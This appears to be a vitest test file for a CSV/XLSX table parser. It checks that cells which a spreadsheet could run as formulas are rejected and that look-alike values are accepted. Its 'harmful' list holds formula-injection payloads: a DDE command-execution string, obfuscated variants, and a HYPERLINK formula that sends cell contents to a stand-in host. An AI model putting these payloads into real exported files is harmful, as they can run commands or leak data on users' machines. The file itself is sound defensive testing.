import { describe, expect, test } from 'vitest';
import { parseTable } from '../parse-table.ts';
import { row, workbook } from './build-workbook.ts';

const harmful = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://example.org?"&A1,"看")',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋cmd',
  '－cmd',
  '＠SUM(A1)',
  "'=1+1",
  '-无',
  '=',
  '@',
];

const harmless = [
  '-3',
  '-3.5%',
  '-1,200.50',
  '+86 138 0000 0000',
  '+8613800000000',
  '+86-23-6781-0000',
  '+86(23)67810000',
  '（-3）',
  '-',
  '--',
  '1=1',
  'a@b.cn',
  '3-5',
  '“=”号',
  "'好'",
];

describe.each([
  ['CSV', (text: string) => Buffer.from(`a\n"${text.replaceAll('"', '""')}"\n`)],
  ['XLSX', (text: string) => workbook(row(1, 'a'), row(2, text.replaceAll('\r', '_x000D_')))],
])('text that a spreadsheet program could run, in %s', (_, fileOf) => {
  const read = (text: string) => parseTable({ name: 'x', bytes: fileOf(text) });

  test.each(harmful)('is refused with its place: %j', async (text) => {
    await expect(read(text)).rejects.toMatchObject({
      code: 'spreadsheets.formula',
      details: { line: 2, column: 'a' },
    });
  });

  test.each(harmless)('is not confused with: %j', async (text) => {
    expect((await read(text)).rows[0]?.cells).toEqual({ a: text });
  });
});

test('a header is a text too', async () => {
  await expect(parseTable({ name: 'x', bytes: Buffer.from('a,=b\n') })).rejects.toMatchObject({
    code: 'spreadsheets.formula',
    details: { line: 1, column: 'B' },
  });
});
